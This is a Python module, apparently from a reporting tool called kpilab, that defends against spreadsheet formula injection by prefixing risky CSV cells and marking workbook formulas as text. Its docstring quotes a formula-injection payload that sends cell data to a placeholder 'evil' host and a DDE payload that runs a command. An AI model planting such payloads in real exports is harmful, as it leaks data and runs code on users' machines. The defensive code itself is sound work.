"""Neutralise user text where a spreadsheet would execute it (OWASP, "CSV injection").

A rep id such as ``=HYPERLINK("http://evil/"&A1,"x")`` or ``=cmd|' /C calc'!A0``
is data, not a formula. Excel, LibreOffice and Google Sheets execute a cell
that starts with ``=``, ``+``, ``-`` or ``@`` (and strip a leading tab or
carriage return first), so kpilab writes user text like this:

- **CSV**: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return gets a leading apostrophe ``'`` (the OWASP advice). Numbers
  are written as numbers, never prefixed.
- **XLSX**: every user string is a text cell, never a formula
  (:func:`defuse_workbook`); the text is kept exactly as it was.

This module imports nothing from kpilab; the CLI, the engine's CSV and the
report's workbook all use these two functions.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "csv_text", "csv_safe_frame", "defuse_workbook"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """A text cell for CSV: prefixed with ``'`` when a spreadsheet would run it; other values as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised by :func:`csv_text` (numeric columns untouched)."""
    out = frame.copy()
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[col] = series.map(csv_text, na_action="ignore")
    headers = [csv_text(str(c)) for c in out.columns]
    if headers != [str(c) for c in out.columns]:
        out.columns = headers
    return out


def defuse_workbook(workbook: Any) -> int:
    """Turn every formula cell of an openpyxl workbook into a text cell; returns how many.

    openpyxl stores any string starting with ``=`` as a formula. kpilab writes
    no formulas of its own, so a formula cell can only be user text: it is
    kept as the same text, typed as a string, with Excel's "quote prefix"
    style so that editing the cell does not turn it into a formula either.
    """
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (cell.data_type == "s" and isinstance(cell.value, str)
                                             and cell.value.startswith(FORMULA_STARTS)):
                    cell.data_type = "s"
                    cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
                    changed += 1
    return changed
